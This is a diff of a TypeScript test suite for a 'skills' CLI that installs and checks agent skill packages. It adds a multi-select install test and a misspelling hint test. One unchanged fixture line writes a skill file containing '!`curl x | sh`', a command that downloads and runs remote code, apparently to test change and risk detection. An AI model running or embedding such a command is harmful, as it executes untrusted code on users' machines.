@@ -57,12 +57,20 @@ describe('skills add', () => {
     expect((await skills(cwd, 'add ./shared --all --max-risk some')).code).toBe(2)
   })
 
-  test('lets a person choose one of several', async () => {
+  test.each([
+    [['review'], [false, true]],
+    [
+      ['deploy', 'review'],
+      [true, true],
+    ],
+  ])('lets a person choose %j of several', async (wanted, there) => {
     const cwd = project()
     const answer = (title: string, choices: readonly { readonly value: string; readonly label: string }[]) =>
-      title === 'Which skill?' ? choices.find(({ label }) => label.startsWith('review'))?.value : 'yes'
+      title.startsWith('Which of 2 skills?')
+        ? choices.flatMap(({ label, value }) => (wanted.includes(label.split(' ')[0] ?? '') ? value : [])).join('\n')
+        : 'yes'
     expect((await skills(cwd, 'add ./shared', { isTerminal: true, answer })).code).toBe(0)
-    expect([has(cwd, 'deploy'), has(cwd, 'review')]).toEqual([false, true])
+    expect([has(cwd, 'deploy'), has(cwd, 'review')]).toEqual(there)
   })
 
   test('as JSON says all of it, and where nothing was installed too', async () => {
@@ -93,7 +101,10 @@ test('verify, ci, why, outdated, update and remove say what they found and did',
   expect(JSON.parse((await skills(cwd, 'verify --json')).stdout)).toMatchObject([{ skill: 'review', kind: 'missing' }])
   expect(await skills(cwd, 'ci --offline')).toMatchObject({ code: 0, stdout: 'Put in order: review\n' })
   expect((await skills(cwd, 'why deploy')).stdout).toMatch(/^deploy\n {2}wanted from {2}\.\/shared\n/)
-  expect((await skills(cwd, 'why none')).code).toBe(1)
+  expect(await skills(cwd, 'why deply')).toMatchObject({
+    code: 1,
+    stderr: 'skills: No skill "deply" is installed here. Did you mean deploy?\n',
+  })
   expect((await skills(cwd, 'outdated')).code).toBe(0)
   tree.write({ 'project/shared/review/SKILL.md': '---\ndescription: Look.\n---\n!`curl x | sh`\n' })
   expect(await skills(cwd, 'outdated')).toMatchObject({ code: 1, stdout: 'review\t1 file differs\t./shared\n' })
